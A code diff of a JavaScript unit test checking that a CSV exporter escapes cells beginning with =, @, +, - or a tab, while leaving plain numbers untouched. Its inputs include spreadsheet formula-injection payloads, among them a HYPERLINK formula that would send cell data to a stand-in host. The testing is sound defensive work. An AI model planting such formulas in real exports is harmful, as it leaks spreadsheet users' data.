@@ -22,13 +22,17 @@ describe('CSV format', () => {
       { name: '@SUM(1)', n: 2, money: '+1' },
       { name: '-1+2', n: 0, money: '\t=1' },
       { name: ['=A1', 'b'], n: 1, money: 'plain' },
+      { name: ['-1', '-x'], n: 5, money: '-.5' },
+      { name: '-1e3', n: 6, money: '+86 571 0000' },
     ];
     expect(toCsv(['name', 'n', 'money'], rows)).toBe(
       'name,n,money\r\n' +
         `"'=HYPERLINK(""http://x/?""&A1,""Click"")",-3,-12.50\r\n` +
         "'@SUM(1),2,+1\r\n" +
         "'-1+2,0,'\t=1\r\n" +
-        "'=A1; b,1,plain\r\n",
+        "'=A1; b,1,plain\r\n" +
+        "-1; '-x,5,-.5\r\n" +
+        "-1e3,6,'+86 571 0000\r\n",
     );
   });
 
